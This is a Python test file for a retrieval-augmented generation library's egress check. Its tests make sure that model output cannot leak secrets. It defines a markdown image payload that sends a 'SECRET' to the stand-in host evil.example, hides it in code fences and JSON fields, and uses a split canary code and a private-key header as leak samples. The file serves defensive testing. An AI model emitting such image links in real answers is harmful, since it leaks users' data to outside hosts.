"""What is shown is what was checked, also where citing or JSON has changed it."""

from __future__ import annotations

import json
from typing import Any

import pytest
from pydantic import BaseModel

from ragstone.testing import ScriptedModel
from ragstone.types import Answer, Prompt
from ragstone.validation.egress.check import EgressCheck
from ragstone.validation.policy import Guard, Policy
from shouting import ABSTAINED, SHIPS, made

IMAGE = "![x](https://evil.example/?q=SECRET)"
FENCED = f"It ships [1].\n\n- ~~~\n  x\n[9]\n  ~~~\n  {IMAGE}\n"
"""A marker that is taken out ends the code that the image stands in."""


class Steps(BaseModel):
    answer: str
    note: str = ""
    steps: list[str] = []


async def answered(said: str, **options: Any) -> tuple[Answer, list[Any]]:
    async with made(ScriptedModel([said])) as rag:
        await rag.ingest()
        stream = rag.stream(SHIPS, **options)
        pieces = [piece async for piece in stream]
    return stream.answer, pieces


def egress(answer: Answer) -> list[bool]:
    return [one.passed for one in answer.verdicts if one.check == "egress"]


async def test_what_citing_makes_of_code_is_looked_at_once_more():
    answer, pieces = await answered(FENCED)
    assert "evil" not in answer.text
    assert "It ships [1]." in answer.text
    assert egress(answer) == [False]
    assert any("was changed by the check 'egress'" in notice for notice in answer.notices)
    assert (pieces[-1].text, pieces[-1].restart) == (answer.text, True)


async def test_an_answer_that_citing_leaves_alone_is_looked_at_once():
    answer, _ = await answered(f"It ships [1].\n\n~~~\n{IMAGE}\n~~~\n")
    assert IMAGE in answer.text
    assert egress(answer) == [True]


@pytest.mark.parametrize(
    ("answer", "note"),
    [("It ships [1].", f"~~~\n{IMAGE}\n~~~"), ("It ships ` now [1].", f"`{IMAGE}`")],
    ids=["a fence that JSON takes for a line", "marks of one text that meet those of another"],
)
async def test_the_texts_of_an_object_are_written_so_that_no_mark_of_theirs_counts(answer: str, note: str):
    found, pieces = await answered(json.dumps({"answer": answer, "note": note}), output=Steps)
    assert "![" not in found.text
    assert "://" not in found.text
    assert json.loads(found.text)["note"] == found.parsed.note == note
    assert egress(found) == [False]
    assert pieces[-1].text == found.text


async def test_an_honest_object_is_written_as_it_is():
    found, _ = await answered(json.dumps({"answer": "It ships [1].", "note": "a `b` (c)"}), output=Steps)
    assert json.loads(found.text) == {"answer": "It ships [1].", "note": "a `b` (c)"}
    assert "\\u" not in found.text
    assert all(egress(found))


async def test_what_came_out_in_one_text_of_an_object_counts_in_the_next():
    async with made(ScriptedModel(['{"answer": "It ships [1]."}'])) as rag:
        await rag.ingest()
        prompt = (await rag.ask(SHIPS, output=Steps)).prompt
    told = prompt.messages[0].content.split()
    parts = [" ".join(told[at : at + 8]) for at in range(0, 40, 8)]
    found, _ = await answered(json.dumps({"answer": "It ships [1].", "steps": parts}), output=Steps)
    assert not set(parts[2:]) & set(found.parsed.steps)
    key = ["-----BEGIN RSA PRIVATE KEY-----", "MIIEpAIBAAKCAQEA7", "and more of it"]
    found, _ = await answered(json.dumps({"answer": "It ships [1].", "steps": key}), output=Steps)
    assert not set(key) & set(found.parsed.steps)


async def test_a_code_in_parts_never_comes_out_of_a_list_whole():
    def parted(prompt: Prompt) -> str:
        (code,) = (slot.text for slot in prompt.slots if slot.name == "canary")
        codes.append(code)
        parts = [code[at : at + 5] for at in range(0, len(code), 5)]
        return json.dumps({"answer": "It ships [1].", "steps": [*parts, "and this"]})

    codes: list[str] = []
    async with made(ScriptedModel(parted)) as rag:
        await rag.ingest()
        found = await rag.ask(SHIPS, output=Steps)
    assert codes[0] not in "".join(found.parsed.steps)
    assert "and this" not in found.parsed.steps


@pytest.mark.parametrize("marker", [" [9]", " [1]", " [1]."])
async def test_an_abstention_with_a_marker_is_one(marker: str):
    answer, _ = await answered(ABSTAINED.rstrip(".") + marker)
    assert (answer.text, answer.abstained, answer.citations) == (ABSTAINED, True, ())


async def test_where_it_may_not_be_shown_the_answer_abstains():
    guard = Guard(name="egress", check=EgressCheck(), policy=Policy(on_fail="refrain"))
    async with made(ScriptedModel([FENCED]), guard) as rag:
        await rag.ingest()
        answer = await rag.ask(SHIPS)
    assert (answer.text, answer.abstained, answer.citations) == (ABSTAINED, True, ())
